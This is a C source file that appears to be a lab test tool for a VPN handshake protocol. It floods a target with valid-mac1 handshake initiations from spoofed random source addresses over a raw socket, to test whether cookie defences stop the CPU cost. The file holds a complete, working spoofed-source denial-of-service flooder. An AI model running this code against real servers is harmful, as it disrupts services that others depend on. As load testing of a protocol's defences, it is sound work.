/* sec_flood.c — test_attack.sh's handshake flood: COUNT valid-mac1 INITs (random
 * ephemeral/static/payload, so each costs the victim a DH unless cookies
 * stop it) at RATE per second from forged random sources in 198.19.0.0/16,
 * sent with sendmmsg in batches so the attacker costs little CPU on a
 * 2-core machine.  Only for addresses inside the lab.
 *   flood PUBKEY_HEX DST_IP DST_PORT COUNT RATE */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define POOL 1024
#define BATCH 64
/* HANDSHAKE_INIT (docs/PROTOCOL.md 2.1): 176 bytes, mac1 at 144, mac2 at 160 */
#define INIT 176
#define INIT_MAC1 144
#define INIT_MAC2 160

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static uint16_t csum(const void *p, size_t n, uint32_t s)
{
	const uint8_t *b = p;
	for (size_t i = 0; i + 1 < n; i += 2)
		s += (uint32_t)(b[i] << 8 | b[i + 1]);
	if (n & 1)
		s += (uint32_t)(b[n - 1] << 8);
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

int main(int argc, char **argv)
{
	uint8_t pub[32], key[32], pool[POOL][INIT];
	static uint8_t pkts[BATCH][20 + 8 + INIT];
	struct mmsghdr m[BATCH];
	struct iovec iov[BATCH];
	struct sockaddr_in dst = { .sin_family = AF_INET };

	if (argc != 6 || sodium_init() < 0)
		return 2;
	for (int i = 0; i < 32; i++)
		sscanf(argv[1] + 2 * i, "%2hhx", &pub[i]);
	crypto_hash_sha256_state st;
	crypto_hash_sha256_init(&st);
	crypto_hash_sha256_update(&st, (const uint8_t *)"mac1----", 8);
	crypto_hash_sha256_update(&st, pub, 32);
	crypto_hash_sha256_final(&st, key);
	for (int i = 0; i < POOL; i++) {
		randombytes_buf(pool[i], INIT);
		pool[i][0] = 1, pool[i][1] = 1, pool[i][2] = pool[i][3] = 0;
		crypto_generichash(pool[i] + INIT_MAC1, 16, pool[i], INIT_MAC1, key, 32);
		memset(pool[i] + INIT_MAC2, 0, 16);
	}
	inet_pton(AF_INET, argv[2], &dst.sin_addr);
	uint16_t dport = (uint16_t)atoi(argv[3]);
	long count = atol(argv[4]);
	double rate = atof(argv[5]);
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (s < 0) {
		perror("raw socket");
		return 1;
	}
	double t0 = now();
	long sent = 0;
	while (sent < count && now() - t0 < 120) {
		int n = count - sent < BATCH ? (int)(count - sent) : BATCH;
		for (int i = 0; i < n; i++) {
			uint8_t *p = pkts[i];
			struct iphdr *ip = (struct iphdr *)p;
			struct udphdr *u = (struct udphdr *)(p + 20);
			uint32_t r = randombytes_random();
			memset(p, 0, 28);
			ip->ihl = 5, ip->version = 4, ip->ttl = 64, ip->protocol = IPPROTO_UDP;
			ip->tot_len = htons(20 + 8 + INIT);
			ip->saddr = htonl(0xc6130000u | (r & 0xffff));
			if ((r & 0xff) == 0 || (r & 0xff) == 255)
				ip->saddr ^= htonl(1);
			ip->daddr = dst.sin_addr.s_addr;
			u->source = htons((uint16_t)(1024 + (r >> 16) % 60000));
			u->dest = htons(dport);
			u->len = htons(8 + INIT);
			memcpy(p + 28, pool[(sent + i) % POOL], INIT);
			/* UDP checksum over the pseudo header. */
			uint8_t ph[12];
			memcpy(ph, &ip->saddr, 4), memcpy(ph + 4, &ip->daddr, 4);
			ph[8] = 0, ph[9] = IPPROTO_UDP, ph[10] = 0, ph[11] = 8 + INIT;
			uint32_t s0 = 0;
			for (int k = 0; k < 12; k += 2)
				s0 += (uint32_t)(ph[k] << 8 | ph[k + 1]);
			uint16_t c = csum(u, 8 + INIT, s0);
			u->check = htons(c ? c : 0xffff);
			ip->check = htons(csum(ip, 20, 0));
			iov[i].iov_base = p;
			iov[i].iov_len = 28 + INIT;
			memset(&m[i], 0, sizeof(m[i]));
			m[i].msg_hdr.msg_iov = &iov[i];
			m[i].msg_hdr.msg_iovlen = 1;
			m[i].msg_hdr.msg_name = &dst;
			m[i].msg_hdr.msg_namelen = sizeof(dst);
		}
		int k = sendmmsg(s, m, (unsigned)n, 0);
		if (k > 0)
			sent += k;
		double ahead = sent / rate - (now() - t0);
		if (ahead > 0)
			usleep((useconds_t)(ahead * 1e6));
	}
	printf("%ld %.2f\n", sent, now() - t0);
	return sent == count ? 0 : 1;
}
